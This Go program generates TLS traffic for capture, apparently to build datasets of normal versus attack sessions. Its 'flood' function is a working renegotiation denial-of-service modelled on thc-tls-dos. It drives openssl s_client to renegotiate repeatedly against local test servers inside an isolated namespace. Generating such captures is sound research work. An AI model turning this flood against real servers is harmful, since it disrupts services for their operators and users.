// Command people runs TLS servers and clients, all of them real programs, whose traffic make.sh
// captures.
//
//	people normal WORK: 82 visits of normal clients, about 120 sessions, up to three at a time
//	people attack-renegotiation WORK: 20 sessions that do nothing but renegotiate again and again
//
// WORK is a folder for keys and pages. Clients are at 127.0.0.1, and servers at 127.0.1.1 and so
// on, port 443, which needs root. make.sh runs the command in a network namespace of its own.
package main

import (
	"fmt"
	"math/rand/v2"
	"os"
	"os/exec"
	"sync"
	"time"
)

const (
	seed    = 2019
	visits  = 82 // some have two connections
	attacks = 20
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: people normal|attack-renegotiation WORK, see make.sh")
		os.Exit(2)
	}
	if err := run(os.Args[1], os.Args[2]); err != nil {
		fmt.Fprintln(os.Stderr, "people:", err)
		os.Exit(1)
	}
}

func run(what, work string) error {
	sites, err := makeSites(work)
	if err != nil {
		return err
	}
	for _, s := range sites {
		stop, err := s.serve(work)
		if err != nil {
			return fmt.Errorf("%s: %w", s.name, err)
		}
		defer stop()
	}
	time.Sleep(time.Second)
	rng := rand.New(rand.NewPCG(seed, 1))
	if what == "normal" {
		return normal(rng, sites, work)
	}
	return flood(rng, sites)
}

// normal runs the visits of normal clients.
func normal(rng *rand.Rand, sites []*site, work string) error {
	const atOnce = 3
	turns := make(chan struct{}, atOnce)
	var all sync.WaitGroup
	done := map[string]int{}
	var mu sync.Mutex
	for k := range visits {
		v, ok := newVisit(rng, sites, work)
		if !ok {
			return fmt.Errorf("no client and site have a common version")
		}
		pause := time.Duration(rng.ExpFloat64()*60) * time.Millisecond
		turns <- struct{}{}
		all.Go(func() {
			defer func() { <-turns }()
			if err := v.run(); err != nil {
				fmt.Fprintf(os.Stderr, "session %d, %s at %s: %v\n", k, v.client.name, v.site.name, err)
			} else {
				mu.Lock()
				done[v.client.name]++
				mu.Unlock()
			}
		})
		time.Sleep(pause)
	}
	all.Wait()
	fmt.Println("sessions by client:", done)
	return nil
}

// flood runs the attack: clients of OpenSSL that renegotiate as soon as they can, as thc-tls-dos
// does, at the sites that allow it, one after the other at each site.
func flood(rng *rand.Rand, sites []*site) error {
	var weak []*site
	for _, s := range sites {
		if s.renegotiates {
			weak = append(weak, s)
		}
	}
	var all sync.WaitGroup
	for range attacks {
		s, times := weak[rng.IntN(len(weak))], 20+rng.IntN(12)
		suite := []string{"ECDHE", "AES128-SHA:ECDHE-ECDSA-AES128-SHA", "ALL"}[rng.IntN(3)]
		pause := time.Duration(20+rng.IntN(60)) * time.Millisecond
		all.Go(func() {
			s.busy.Lock()
			defer s.busy.Unlock()
			cmd := exec.Command("openssl", "s_client", "-connect", s.address, "-tls1_2", "-cipher",
				suite+":@SECLEVEL=0")
			in, err := cmd.StdinPipe()
			if err != nil {
				panic(err)
			}
			if err := cmd.Start(); err != nil {
				panic(err)
			}
			time.Sleep(150 * time.Millisecond)
			for range times {
				fmt.Fprintln(in, "R") // renegotiate
				time.Sleep(pause)
			}
			in.Close()
			cmd.Wait()
		})
	}
	all.Wait()
	return nil
}
